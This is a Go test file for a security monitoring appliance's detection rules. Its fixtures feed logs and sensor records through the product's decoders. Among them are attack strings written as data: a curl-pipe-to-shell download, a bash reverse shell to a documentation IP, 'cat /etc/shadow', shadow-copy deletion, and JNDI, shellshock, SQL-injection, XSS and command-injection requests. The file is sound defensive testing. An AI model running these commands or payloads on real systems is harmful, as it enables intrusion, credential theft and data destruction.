package test

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"hoalu/collector/decoders"
	"hoalu/collector/health"
	"hoalu/collector/pipeline"
	"hoalu/detections"
	"hoalu/ecs"
	"hoalu/ecs/wire"
	"hoalu/internal/needed"
	"hoalu/privacy"
	"hoalu/sensors/packet"
	"hoalu/soc"
)

// rig decodes raw messages as the appliance does and runs the product's own rules over them.
type rig struct {
	*testing.T
	pipe   *pipeline.Pipeline
	engine *detections.Engine
	seq    uint64
	now    int64
	fired  map[string]int // by the name of the rule's file and, of a file with several, the title
}

type fixedMAC struct{}

func (fixedMAC) ComputeMAC(data []byte) ([]byte, error) {
	sum := sha256.Sum256(data)
	return sum[:], nil
}

func (m fixedMAC) Versions(data []byte) ([][]byte, error) {
	sum, err := m.ComputeMAC(data)
	return [][]byte{sum}, err
}

func newRig(t *testing.T) *rig {
	t.Helper()
	set, err := decoders.New()
	if err != nil {
		t.Fatal(err)
	}
	prot, err := privacy.New(privacy.Config{MAC: fixedMAC{}})
	if err != nil {
		t.Fatal(err)
	}
	g, err := detections.New(detections.Config{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return &rig{T: t, engine: g, fired: map[string]int{}, now: time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC).UnixMilli(),
		pipe: pipeline.New(func(uint64) pipeline.Setup { return pipeline.Setup{Decoders: set, Protector: prot} })}
}

// feed takes messages received step apart.
func (r *rig) feed(format string, trust bool, step time.Duration, raw ...string) {
	r.Helper()
	for _, m := range raw {
		r.seq++
		r.now += step.Milliseconds()
		d, err := r.pipe.Decode(&wire.Batch{Listener: "test", Epoch: "e",
			Frames: []wire.Frame{{Source: "NG-0001", Received: r.now, Format: format, Trust: trust, Data: []byte(m)}}}, r.seq)
		if err != nil {
			r.Fatal(err)
		}
		for _, q := range d.Quarantined {
			r.Errorf("quarantined: %s: %s", q.Detail, m)
		}
		for _, h := range r.engine.Process(d.Events) {
			info, _ := r.engine.Rule(h.Rule)
			r.fired[name(info)]++
		}
	}
}

func name(r soc.RuleInfo) string { return strings.TrimSuffix(filepath.Base(r.File), ".yml") }

func repeat[T any](n int, f func(i int) T) []T {
	out := make([]T, n)
	for i := range out {
		out[i] = f(i)
	}
	return out
}

func stampOf(ms int64) string {
	return time.UnixMilli(ms).UTC().Format("2006-01-02T15:04:05.000Z")
}

// winlogbeat is one document of Winlogbeat 8.
func winlogbeat(channel, provider string, id int, data string) string {
	return fmt.Sprintf(`{"@timestamp":"2026-11-22T03:00:00.000Z","agent":{"type":"winlogbeat","version":"8.15.0"},"event":{"code":"%d","provider":%q,"kind":"event"},"host":{"name":"may-01"},"winlog":{"channel":%q,"provider_name":%q,"event_id":%d,"computer_name":"may-01.example","event_data":%s}}`,
		id, provider, channel, provider, id, data)
}

// probe is a record of a process as sensors/bpf writes it.
func probe(image, command, parent, user string) string {
	var e ecs.Event
	e.AddString(ecs.EventAction, "exec")
	e.AddString(ecs.ProcessExecutable, image)
	e.AddString(ecs.ProcessCommandLine, command)
	e.AddString(ecs.ParentExecutable, parent)
	e.AddString(ecs.UserName, user)
	e.SetLogsource("linux", "", "process_creation")
	return string(e.AppendJSON(nil))
}

func socket(action, process, parent, ip string, port int64) string {
	var e ecs.Event
	e.AddString(ecs.EventAction, action)
	e.AddString(ecs.ProcessName, process)
	e.AddString(ecs.ParentName, parent)
	e.AddString(ecs.DestIP, ip)
	e.AddInt(ecs.DestPort, port)
	if action == "listen" {
		e.SetLogsource("linux", "hoalu_socket", "network_listen")
	} else {
		e.SetLogsource("linux", "", "network_connection")
	}
	return string(e.AppendJSON(nil))
}

// note is one of the product's own events, as collector/health documents them.
func note(action string) string {
	return fmt.Sprintf(`{"@timestamp":"2026-11-22T03:00:00.000Z","message":"x","log":{"level":"error"},"event":{"kind":"event","module":"hoalu","dataset":"hoalu.health","action":%q},"hoalu":{"about":{"source":"NG-0009"}},"sigma":{"logsource":{"product":"hoalu","service":"health"}}}`, action)
}

// about is one of the product's own events about one of its parts.
func about(action, part string) string {
	return strings.Replace(note(action), `"source":"NG-0009"`, fmt.Sprintf(`"part":%q,"cause":"x"`, part), 1)
}

// TestRulesOnRawLines: every rule of the product's pack fires on messages as programs and devices write them, decoded by our decoders,
// or on records as our sensors make them. Rules by the name of their file.
func TestRulesOnRawLines(t *testing.T) {
	covered := map[string]bool{}
	for _, c := range rawCases(t) {
		r := newRig(t)
		c.stamp(r.now)
		r.feed(c.format, c.trust, c.step, c.raw...)
		want := strings.Fields(c.rules)
		for _, w := range want {
			covered[w] = true
			if r.fired[w] == 0 {
				t.Errorf("%s does not fire on %q (fired: %v)", w, c.raw[0], r.fired)
			}
		}
		for f := range r.fired {
			if !slices.Contains(want, f) {
				t.Errorf("%s fires too on what is meant for %q: %q", f, c.rules, c.raw[0])
			}
		}
	}
	covered["net_tls_self_signed_outbound"] = true // TestSelfSigned
	for _, info := range newRig(t).engine.Rules() {
		if !covered[name(info)] {
			t.Errorf("%s is shown on no raw message", name(info))
		}
	}
}

// rawCase is what a sender writes and which rules it sets off.
type rawCase struct {
	rules  string // that must fire, and no others
	format string
	trust  bool
	step   time.Duration
	raw    []string
}

// stamp puts the times of the messages step apart behind now, Unix ms.
func (c *rawCase) stamp(now int64) {
	for i := range c.raw {
		switch {
		case c.format == wire.FormatSyslog: // the header's time is fixed: take the times from the receipt
			local := time.UnixMilli(now).Add(time.Duration(i+1) * c.step).In(time.FixedZone("+07", 7*3600))
			c.raw[i] = strings.Replace(c.raw[i], "Nov 22 10:00:00", local.Format(time.Stamp), 1)
			c.raw[i] = strings.Replace(c.raw[i], "22/Nov/2026:10:00:00 +0700", local.Format("02/Jan/2006:15:04:05 -0700"), 1)
		case c.step > 0:
			c.raw[i] = strings.Replace(c.raw[i], "2026-11-22T03:00:00.000Z", stampOf(now+int64(i+1)*c.step.Milliseconds()), 1)
		}
	}
}

// rawCases are the lines for every rule of the product: Linux, web servers, our own sensors, Windows, and what the product says of itself.
func rawCases(t *testing.T) []rawCase {
	syslog := func(app, format string, args ...any) string {
		return "<38>Nov 22 10:00:00 may-01 " + app + ": " + fmt.Sprintf(format, args...)
	}
	web := func(ip, user, request string, status, size int) string {
		return fmt.Sprintf(`<190>Nov 22 10:00:00 may-01 nginx: %s - %s [22/Nov/2026:10:00:00 +0700] "%s HTTP/1.1" %d %d "-" "Mozilla/5.0"`, ip,
			user, request, status, size)
	}
	access := func(request string, status int, agent string) string {
		return fmt.Sprintf(`<190>Nov 22 10:00:00 may-01 nginx: 203.0.113.9 - - [22/Nov/2026:10:00:00 +0700] "%s" %d 162 "-" "%s"`, request,
			status, agent)
	}
	times := func(n int, line string) []string { return repeat(n, func(int) string { return line }) }
	ssh := func(word, user, ip string) string {
		return syslog("sshd[2211]", "%s password for %s from %s port 40122 ssh2", word, user, ip)
	}
	failed4625 := func(user string) string {
		return winlogbeat("Security", "Microsoft-Windows-Security-Auditing", 4625,
			fmt.Sprintf(`{"TargetUserName":%q,"IpAddress":"10.20.9.40","IpPort":"50000","LogonType":"3"}`, user))
	}
	const powershell = `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe`
	return []rawCase{
		{"lnx_sshd_password_guessing", wire.FormatSyslog, false, 5 * time.Second,
			repeat(9, func(int) string { return ssh("Failed", "root", "203.0.113.9") })},
		{"lnx_sshd_password_guessing lnx_sshd_guessing_success", wire.FormatSyslog, false, 3 * time.Second,
			append(repeat(9, func(int) string { return ssh("Failed", "invalid user admin", "203.0.113.9") }),
				ssh("Accepted", "quantri", "203.0.113.9"))},
		{"lnx_sshd_password_spraying", wire.FormatSyslog, false, 90 * time.Second,
			repeat(7, func(i int) string { return ssh("Failed", fmt.Sprint("canbo", i), "203.0.113.9") })},
		{"lnx_sshd_root_password_login", wire.FormatSyslog, false, 0, []string{ssh("Accepted", "root", "10.20.1.15")}},
		{"lnx_sudo_failed_burst", wire.FormatSyslog, false, time.Minute, repeat(3, func(int) string {
			return syslog("sudo", "   canbo : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/canbo ; USER=root ; COMMAND=/bin/bash")
		})},
		{"lnx_sudo_not_in_sudoers", wire.FormatSyslog, false, 0,
			[]string{syslog("sudo", "   vanthu : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/vanthu ; USER=root ; COMMAND=/bin/cat /etc/shadow")}},
		{"lnx_sudo_service_account_root_shell", wire.FormatSyslog, false, 0,
			[]string{syslog("sudo", "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash")}},
		{"lnx_auth_account_created", wire.FormatSyslog, false, 0,
			[]string{syslog("useradd[8101]", "new user: name=hotro2, UID=1007, GID=1007, home=/home/hotro2, shell=/bin/bash, from=/dev/pts/0")}},
		{"lnx_auth_account_created lnx_auth_second_root", wire.FormatSyslog, false, 0,
			[]string{syslog("useradd[8101]", "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0")}},
		{"lnx_auth_admin_group_member_added", wire.FormatSyslog, false, 0, []string{syslog("usermod[8110]", "add 'hotro2' to group 'sudo'")}},
		{"lnx_auth_admin_group_member_added", wire.FormatSyslog, false, 0,
			[]string{syslog("gpasswd[8111]", "user hotro2 added by root to group wheel")}},
		{"lnx_syslog_log_service_stopped", wire.FormatSyslog, false, 0,
			[]string{"<30>Nov 22 10:00:00 may-01 systemd[1]: Stopped rsyslog.service - System Logging Service."}},

		{"web_webshell_request", wire.FormatSyslog, false, 0, []string{web("203.0.113.77", "-", "GET /uploads/anh.php?cmd=id", 200, 54)}},
		{"web_path_traversal", wire.FormatSyslog, false, 0, []string{web("203.0.113.77", "-", "GET /tai?tep=../../../../etc/passwd", 200, 54)}},
		{"web_sql_injection", wire.FormatSyslog, false, 0, []string{web("203.0.113.77", "-", "GET /tra-cuu?ma=1%27%20OR%201=1--", 200, 54)}},
		{"web_scanner_user_agent", wire.FormatSyslog, false, 0,
			[]string{strings.Replace(web("203.0.113.77", "-", "GET /", 200, 54), "Mozilla/5.0", "sqlmap/1.8.4#stable (https://sqlmap.org)", 1)}},
		{"web_many_not_found", wire.FormatSyslog, false, time.Second,
			repeat(31, func(i int) string { return web("203.0.113.77", "-", fmt.Sprintf("GET /cu%d/a.php", i), 404, 162) })},
		{"web_many_unauthorized", wire.FormatSyslog, false, time.Second,
			repeat(21, func(int) string { return web("203.0.113.77", "-", "POST /dang-nhap", 401, 88) })},
		{"web_admin_path_from_outside", wire.FormatSyslog, false, 0, []string{web("203.0.113.77", "-", "GET /phpmyadmin/index.php", 200, 4100)}},
		{"web_secret_file_served", wire.FormatSyslog, false, 0, []string{web("203.0.113.77", "-", "GET /.env", 200, 410)}},
		{"web_citizen_lookups_by_address", wire.FormatSyslog, false, 10 * time.Second, repeat(30, func(i int) string {
			return web("10.20.7.31", "-", fmt.Sprintf("GET /tra-cuu?cccd=037190%06d", i+1), 200, 900)
		})},
		{"web_citizen_lookups_by_account", wire.FormatSyslog, false, 26 * time.Second, repeat(46, func(i int) string {
			return web("10.20.7.31", "canbo", fmt.Sprintf("GET /tra-cuu?cccd=037190%06d", i+1), 200, 900)
		})},

		{"proc_creation_lnx_webserver_shell", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/dash", "sh -c id", "/usr/sbin/nginx", "www-data")}},
		{"proc_creation_lnx_download_pipe_shell", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.9/a | sh", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_reverse_shell", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_base64_shell", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/dash", "sh -c echo aWQ= | base64 -d | bash", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_cron_persistence", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/crontab", "crontab -", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_exec_from_temp", wire.FormatECS, true, 0,
			[]string{probe("/dev/shm/kworker", "/dev/shm/kworker", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_credential_file_read", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/cat", "cat /etc/shadow", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_ld_preload", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/dash", "sh -c LD_PRELOAD=/tmp/l.so su", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_log_cleared", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/rm", "rm -f /var/log/auth.log", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_security_service_stopped", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/systemctl", "systemctl stop rsyslog", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_crypto_miner", wire.FormatECS, true, 0,
			[]string{probe("/opt/k", "k -o stratum+tcp://pool.example:3333", "/usr/bin/bash", "root")}},
		{"proc_creation_lnx_database_dump_by_service", wire.FormatECS, true, 0,
			[]string{probe("/usr/bin/pg_dump", "pg_dump hssk", "/usr/bin/bash", "www-data")}},
		{"net_connection_lnx_shell_outbound", wire.FormatECS, true, 0, []string{socket("connect", "bash", "sshd", "203.0.113.9", 4444)}},
		{"net_connection_lnx_webserver_child_outbound", wire.FormatECS, true, 0,
			[]string{socket("connect", "curl", "php-fpm8.2", "203.0.113.9", 80)}},
		{"net_listen_lnx_interpreter", wire.FormatECS, true, 0, []string{socket("listen", "nc", "bash", "0.0.0.0", 4444)}},

		{"net_dns_tunnel_unique_names", wire.FormatECS, true, 0, captured(t, repeat(20, func(i int) []byte {
			return dnsPacket(fmt.Sprintf("mzxw6ytboi4dsmjqgezdgnbvgy3tqojq%02d.x9.example", i), 1)
		}))},
		{"net_dns_txt_burst", wire.FormatECS, true, 0,
			captured(t, repeat(70, func(i int) []byte { return dnsPacket(fmt.Sprintf("c%d.lenh.example", i), 16) }))},
		{"net_connection_port_scan", wire.FormatECS, true, 0,
			captured(t, repeat(50, func(i int) []byte { return synPacket(netip.MustParseAddr("10.30.4.7"), uint16(1000+i)) }))},
		{"net_http_password_in_clear", wire.FormatECS, true, 0,
			[]string{`{"@timestamp":"2026-11-22T03:00:00.000Z","event.action":"http_request","sigma.logsource.product":"hoalu","sigma.logsource.service":"packet","sigma.logsource.category":"http","source.ip":"10.20.4.9","destination.ip":"10.20.3.9","http.request.method":"GET","url.original":"/l?u=a&password=BiMat26","url.path":"/l","url.query":"u=a&password=BiMat26"}`}},
		{"net_connection_large_upload", wire.FormatECS, true, 0,
			[]string{`{"@timestamp":"2026-11-22T03:00:00.000Z","event.action":"flow_end","sigma.logsource.product":"hoalu","sigma.logsource.service":"packet","sigma.logsource.category":"network_connection","source.ip":"10.20.3.9","destination.ip":"203.0.113.66","network.direction":"outbound","network.transport":"tcp","hoalu.flow.state":"closed","source.bytes":4812000000}`}},
		{"net_suricata_high_severity_alert", wire.FormatJSON, false, 0,
			[]string{`{"timestamp":"2026-11-22T10:00:00.000+0700","flow_id":1,"in_iface":"eth1","event_type":"alert","src_ip":"203.0.113.9","src_port":1,"dest_ip":"192.0.2.11","dest_port":443,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":1,"rev":1,"signature":"ET EXPLOIT X","category":"Y","severity":1}}`}},

		{"win_security_password_guessing", wire.FormatJSON, false, 5 * time.Second,
			repeat(11, func(int) string { return failed4625("quantri") })},
		{"win_security_log_cleared", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Security", "Microsoft-Windows-Eventlog", 1102, `{"SubjectUserName":"x"}`)}},
		{"win_security_admin_group_member_added", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Security", "Microsoft-Windows-Security-Auditing", 4732,
				`{"TargetUserName":"Administrators","TargetSid":"S-1-5-32-544","MemberSid":"S-1-5-21-1","SubjectUserName":"x"}`)}},
		{"win_security_account_created", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Security", "Microsoft-Windows-Security-Auditing", 4720, `{"TargetUserName":"hotro3","SubjectUserName":"x"}`)}},
		{"win_security_rdp_logon_from_outside", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Security", "Microsoft-Windows-Security-Auditing", 4624,
				`{"TargetUserName":"quantri","IpAddress":"203.0.113.88","LogonType":"10"}`)}},
		{"win_system_suspicious_service_install", wire.FormatJSON, false, 0,
			[]string{winlogbeat("System", "Service Control Manager", 7045, `{"ServiceName":"upd","ImagePath":"%COMSPEC% /C powershell"}`)}},
		{"proc_creation_win_powershell_encoded", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
				`{"Image":"`+powershell+`","CommandLine":"powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgACcAbQBhAHUA"}`)}},
		{"proc_creation_win_powershell_encoded", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Security", "Microsoft-Windows-Security-Auditing", 4688,
				`{"NewProcessName":"`+powershell+`","CommandLine":"powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgACcAbQBhAHUA"}`)}},
		{"proc_creation_win_shadow_copies_deleted", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
				`{"Image":"C:\\Windows\\System32\\vssadmin.exe","CommandLine":"vssadmin delete shadows /all /quiet"}`)}},
		{"win_defender_malware_or_disabled", wire.FormatJSON, false, 0,
			[]string{winlogbeat("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116,
				`{"Threat Name":"Trojan:Win32/Example"}`)}},

		{"lnx_auth_service_password_guessing", wire.FormatSyslog, false, 10 * time.Second,
			times(12,
				"<86>Nov 22 10:00:00 web-01 proftpd: pam_unix(proftpd:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/ftpd1 ruser=an rhost=203.0.113.9  user=an")},
		{"lnx_auth_su_failed_burst", wire.FormatSyslog, false, 20 * time.Second,
			times(6, "<85>Nov 22 10:00:00 web-01 su[77]: FAILED SU (to root) an on pts/0")},
		{"lnx_sshd_guessing_throttled", wire.FormatSyslog, false, 20 * time.Second,
			times(6,
				"<86>Nov 22 10:00:00 web-01 sshd[77]: drop connection #4 from [203.0.113.9]:37004 on [10.0.0.1]:22 penalty: failed authentication")},
		{"web_jndi_lookup", wire.FormatSyslog, false, 0, []string{access("GET / HTTP/1.1", 200, "${jndi:ldap://203.0.113.7:1389/a}")}},
		{"web_shellshock", wire.FormatSyslog, false, 0, []string{access("GET /cgi-bin/status HTTP/1.1", 404, "() { :; }; /bin/bash -c id")}},
		{"web_phpunit_eval", wire.FormatSyslog, false, 0,
			[]string{access("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, "Mozilla/5.0")}},
		{"web_cross_site_scripting", wire.FormatSyslog, false, 0,
			[]string{access("GET /tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, "Mozilla/5.0")}},
		{"web_command_injection", wire.FormatSyslog, false, 0, []string{access("GET /?c=id%3Buname%20-a HTTP/1.1", 200, "Mozilla/5.0")}},

		{"hoalu_source_silent", wire.FormatJSON, true, 0, []string{note(health.SourceSilent)}},
		{"hoalu_source_degraded", wire.FormatJSON, true, 0, []string{note(health.SourceThin)}},
		{"hoalu_source_degraded", wire.FormatJSON, true, 0, []string{note(health.SourceGarbled)}},
		{"hoalu_source_degraded", wire.FormatJSON, true, 0, []string{note(health.SourceSkewed)}},
		{"hoalu_source_degraded", wire.FormatJSON, true, 0, []string{note(health.SourceCounts)}},
		{"", wire.FormatJSON, true, 0, []string{note(health.SourceRecovered), note(health.DiskRecovered)}},
		{"hoalu_ledger_imbalance", wire.FormatJSON, true, 0, []string{note(health.LedgerImbalance)}},
		{"hoalu_clock_jump", wire.FormatJSON, true, 0, []string{note(health.ClockJump)}},
		{"hoalu_intake_refused", wire.FormatJSON, true, 0, []string{note(health.DiskLow)}},
		{"hoalu_intake_refused", wire.FormatJSON, true, 0, []string{note(health.QueueFull)}},
		{"hoalu_intake_refused", wire.FormatJSON, true, 0, []string{about(health.PartTrouble, "queue")}},
		{"hoalu_part_trouble", wire.FormatJSON, true, 0, []string{about(health.PartTrouble, "clock")}},
		{"hoalu_evidence_altered", wire.FormatJSON, true, 0, []string{about(health.PartTrouble, "evidence_compared")}},
		{"", wire.FormatJSON, true, 0, []string{about(health.PartRecovered, "clock")}},
		{"hoalu_sensor_loss", wire.FormatJSON, true, 0, []string{note(health.SensorLoss)}},
		{"hoalu_sensor_loss", wire.FormatJSON, true, 0, []string{note(health.SensorGap)}},
		{"hoalu_sensor_certificate", wire.FormatJSON, true, 0, []string{note(health.SensorCertificate)}},
		{"hoalu_queue_hole", wire.FormatJSON, true, 0, []string{note(health.QueueHole)}},
		{"hoalu_store_rebuilt", wire.FormatJSON, true, 0, []string{note(health.StoreRebuilt)}},
	}
}

// TestSelfSigned: the record of a handshake that sensors/packet keeps as its golden file fires the rule once its server is outside.
func TestSelfSigned(t *testing.T) {
	data, err := os.ReadFile("../sensors/packet/testdata/tls.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		r := newRig(t)
		r.feed(wire.FormatECS, true, 0, line)
		if tls := strings.Contains(line, "tls_handshake"); (r.fired["net_tls_self_signed_outbound"] > 0) != tls {
			t.Errorf("fires %v on %.120s", r.fired, line)
		}
	}
}

// captured runs packets, a second apart, through the packet sensor and gives the records it makes.
func captured(t *testing.T, packets [][]byte) []string {
	t.Helper()
	var out []string
	a := packet.NewAnalyzer(packet.Config{Sensor: "may-01"}, func(rec []byte, _ packet.Class) { out = append(out, string(rec)) })
	at := time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)
	for i, p := range packets {
		a.Packet(packet.LinkEthernet, at.Add(time.Duration(i)*time.Second).UnixNano(), p, len(p))
	}
	a.Flush()
	return out
}

// ipv4 puts a transport header and payload into an Ethernet frame from 10.20.4.31. Checksums are left out: the analyzer does without.
func ipv4(to netip.Addr, proto byte, body []byte) []byte {
	b := append([]byte{2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0}, 0x45, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(20+len(body)))
	b = append(b, 0, 1, 0, 0, 64, proto, 0, 0, 10, 20, 4, 31)
	return append(append(b, to.AsSlice()...), body...)
}

func dnsPacket(name string, typ uint16) []byte {
	m := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for l := range strings.SplitSeq(name, ".") {
		m = append(append(m, byte(len(l))), l...)
	}
	m = append(m, 0)
	m = binary.BigEndian.AppendUint16(m, typ)
	m = append(m, 0, 1)
	udp := binary.BigEndian.AppendUint16([]byte{0x9c, 0x40, 0, 53}, uint16(8+len(m)))
	return ipv4(netip.MustParseAddr("10.20.0.53"), 17, append(append(udp, 0, 0), m...))
}

func synPacket(to netip.Addr, port uint16) []byte {
	tcp := binary.BigEndian.AppendUint16([]byte{0x9c, 0x40}, port)
	return ipv4(to, 6, append(tcp, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0))
}

// TestOrdinaryLines: what decoders are tested with, and ordinary Windows logs, fire only where one of them is what the rule says. A rule
// that gets noisy shows here.
func TestOrdinaryLines(t *testing.T) {
	r := newRig(t)
	for _, file := range []struct{ name, format string }{{"linux.auth", wire.FormatLine}, {"nginx.access", wire.FormatLine},
		{"apache.access", wire.FormatLine}, {"syslog", wire.FormatSyslog}, {"detect", wire.FormatLine}} {
		data, err := os.ReadFile("../collector/decoders/testdata/" + file.name + ".log")
		if err != nil {
			t.Fatal(err)
		}
		r.feed(file.format, false, time.Second, strings.Split(strings.TrimSpace(string(data)), "\n")...)
	}
	dir := os.Getenv("HOALU_TESTDATA")
	if dir == "" {
		dir = "../../shared/data"
	}
	for _, f := range []string{"windows-system-logs", "zeek"} {
		data, err := os.ReadFile(filepath.Join(dir, "sigma", f+".jsonl"))
		if err != nil {
			needed.Missing(t, "the larger sets are not here: %v", err)
		}
		var docs []string
		for l := range strings.Lines(string(data)) {
			var x struct{ Logsource, Event json.RawMessage }
			if err := json.Unmarshal([]byte(l), &x); err != nil {
				t.Fatal(err)
			}
			docs = append(docs, `{"sigma":{"logsource":`+string(x.Logsource)+`},`+string(x.Event[1:]))
		}
		r.feed(wire.FormatJSON, true, time.Second, docs...)
	}
	t.Logf("%v", r.fired)
	allowed := map[string]int{"win_security_admin_group_member_added": 6, "win_security_account_created": 4,
		"lnx_auth_admin_group_member_added": 1, "lnx_auth_account_created": 1, "lnx_sudo_not_in_sudoers": 1, "web_path_traversal": 1}
	for f, n := range r.fired {
		if n > allowed[f] {
			t.Errorf("%s fires %d times on ordinary lines, want at most %d", f, n, allowed[f])
		}
	}
}
